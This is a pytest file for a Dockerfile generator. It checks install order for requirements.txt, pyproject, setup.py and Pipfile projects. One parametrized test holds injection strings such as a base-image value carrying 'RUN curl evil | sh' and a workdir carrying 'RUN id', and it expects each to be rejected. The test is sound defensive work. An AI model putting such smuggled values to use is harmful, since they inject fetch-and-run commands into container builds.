"""dockerfile: auto: what the generated Dockerfile holds, for each way a project lists its requirements."""

from __future__ import annotations

import pytest

from register.image.dockerfile import DEFAULT_BASE, generate


def test_requirements_are_installed_before_the_code_is_copied(tmp_path):
    (tmp_path / "requirements.txt").write_text("pandas\n")
    text = generate(tmp_path, base="python:3.12-slim", workdir="/opt/prefect/sales-etl", project="sales-etl")
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert lines == [
        "FROM python:3.12-slim",
        "WORKDIR /opt/prefect/sales-etl",
        "COPY requirements.txt ./",
        "RUN python -m pip install --no-cache-dir -r requirements.txt",
        "COPY . ./",
    ]


def test_a_pyproject_is_installed_as_a_package(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    text = generate(tmp_path, base=None, workdir="/app", project="x")
    assert f"FROM {DEFAULT_BASE}" in text
    assert text.index("COPY . ./") < text.index("RUN python -m pip install --no-cache-dir .")


def test_code_only(tmp_path):
    text = generate(tmp_path, base="b", workdir="/app", project="x")
    assert "pip" not in text and text.rstrip().endswith("COPY . ./")


@pytest.mark.parametrize("key,value", [("base", "python:3.12\nRUN curl evil | sh"), ("base", "python:3.12\r"),
                                       ("workdir", "/app\nRUN id"), ("workdir", "/app\\"), ("workdir", "/a b"),
                                       ("base", "python\0")])
def test_no_value_adds_a_line_of_its_own(tmp_path, key, value):
    with pytest.raises(ValueError, match=key):
        generate(tmp_path, **{"base": "b", "workdir": "/app", key: value}, project="x")


def test_requirements_then_the_project_when_both_are_there(tmp_path):
    (tmp_path / "requirements.txt").write_text("pandas\n")
    (tmp_path / "pyproject.toml").write_text("[build-system]\nrequires = ['hatchling']\n[project]\nname = 'x'\n")
    lines = [line for line in generate(tmp_path, base="b", workdir="/app", project="x").splitlines()
             if not line.startswith(("#", "FROM", "WORKDIR"))]
    assert lines == ["COPY requirements.txt ./", "RUN python -m pip install --no-cache-dir -r requirements.txt",
                     "COPY . ./", "RUN python -m pip install --no-cache-dir ."]


def test_a_setup_py_is_installed_as_a_package_never_run_here(tmp_path):
    (tmp_path / "setup.py").write_text("raise SystemExit('flow-register ran setup.py')\n")
    text = generate(tmp_path, base="b", workdir="/app", project="x")
    assert text.rstrip().endswith("COPY . ./\nRUN python -m pip install --no-cache-dir .")


def test_a_pyproject_of_tool_settings_only_installs_nothing(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.ruff]\nline-length = 120\n")
    assert "pip" not in generate(tmp_path, base="b", workdir="/app", project="x")


@pytest.mark.parametrize("locked", [True, False])
def test_a_pipfile_is_installed_with_pipenv_before_the_code(tmp_path, locked):
    (tmp_path / "Pipfile").write_text("[packages]\nrequests = '*'\n")
    if locked:
        (tmp_path / "Pipfile.lock").write_text("{}")
    lines = [line for line in generate(tmp_path, base="b", workdir="/app", project="x").splitlines()
             if not line.startswith(("#", "FROM", "WORKDIR"))]
    assert lines == ["COPY Pipfile Pipfile.lock ./" if locked else "COPY Pipfile ./",
                     "RUN python -m pip install --no-cache-dir pipenv && pipenv install --system"
                     + (" --deploy" if locked else ""),
                     "COPY . ./"]
